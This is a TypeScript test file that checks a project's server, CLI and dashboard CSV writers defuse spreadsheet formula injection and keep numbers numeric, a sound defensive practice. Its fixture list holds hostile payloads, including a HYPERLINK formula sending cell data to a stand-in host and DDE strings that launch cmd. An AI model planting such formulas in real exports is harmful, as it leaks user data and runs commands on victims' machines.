/**
 * CSV formula injection (OWASP): every CSV writer — the server's (FOCUS, showback), the CLI's
 * `--csv`, and the dashboard's download — must turn a caller-controlled text cell that a
 * spreadsheet would evaluate into text, and leave numbers (including negative money strings) numeric.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import ts from 'typescript';
import { csvField, csvLine } from '../../src/analytics/csv.js';
import { toCsv as cliCsv } from '../../src/cli/ledger-cli-options.js';
import { REPO_ROOT } from '../helpers/fixtures.js';

const HOSTILE: [string, string][] = [
  ['=HYPERLINK("http://evil.example/?x="&A1,"open")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"`],
  ['+cmd|" /C calc"!A0', `"'+cmd|"" /C calc""!A0"`],
  ['-2+3+cmd|" /C calc"!A0', `"'-2+3+cmd|"" /C calc""!A0"`],
  ['@SUM(1+1)*cmd', `"'@SUM(1+1)*cmd"`],
  ['\t=1+1', `"'\t=1+1"`],
  ['\r=1+1', `"'\r=1+1"`],
  ['-', `"'-"`],
];
const NUMERIC: [string | number, string][] = [
  ['-0.0012', '-0.0012'],
  ['+12.5', '+12.5'],
  ['0.000000000000000001', '0.000000000000000001'],
  ['-1e-7', '-1e-7'],
  [-3, '-3'],
  [42, '42'],
];

/** The dashboard's writer, compiled the way the web build would (it is outside the Node tsconfig). */
async function webCell(): Promise<(v: unknown) => string> {
  const src = fs.readFileSync(path.join(REPO_ROOT, 'web', 'src', 'lib', 'csv.ts'), 'utf8');
  const js = ts.transpileModule(src, { compilerOptions: { module: ts.ModuleKind.ESNext, target: ts.ScriptTarget.ES2022 } }).outputText;
  const mod = (await import(`data:text/javascript;base64,${Buffer.from(js).toString('base64')}`)) as { spendCsv: (rows: Record<string, unknown>[], dims: string[]) => string };
  return (v) => {
    const lines = mod.spendCsv([{ period: null, team: v }], ['team']).split('\r\n');
    const row = lines[1] ?? '';
    // period is empty; the team cell follows the first comma, up to the cost column (empty).
    return row.slice(1, row.length - ','.repeat(8).length);
  };
}

describe('CSV writers neutralise formula-leading text cells', () => {
  it('the server writer (FOCUS export, showback) prefixes them with a quote and quotes the cell', () => {
    for (const [input, expected] of HOSTILE) assert.equal(csvField(input), expected, JSON.stringify(input));
    assert.equal(csvLine(['=1+1', 'search', -0.5]), `"'=1+1",search,-0.5\r\n`);
  });

  it('the server writer leaves numbers and exact decimal money strings numeric', () => {
    for (const [input, expected] of NUMERIC) assert.equal(csvField(input), expected, String(input));
  });

  it('the CLI --csv writer does the same, JSON-encoded objects included', () => {
    const out = cliCsv([{ team: '=HYPERLINK("x")', cost: '-0.25', requests: 3, tags: { a: '=1' } }], ['team', 'cost', 'requests', 'tags']);
    assert.equal(out.split('\n')[1], `"'=HYPERLINK(""x"")",-0.25,3,"{""a"":""=1""}"`);
  });

  it("the dashboard's CSV download does the same", async () => {
    const cell = await webCell();
    for (const [input, expected] of HOSTILE.filter(([i]) => !/[\r]/.test(i))) assert.equal(cell(input), expected, JSON.stringify(input));
    for (const [input, expected] of NUMERIC) assert.equal(cell(input), expected, String(input));
  });
});
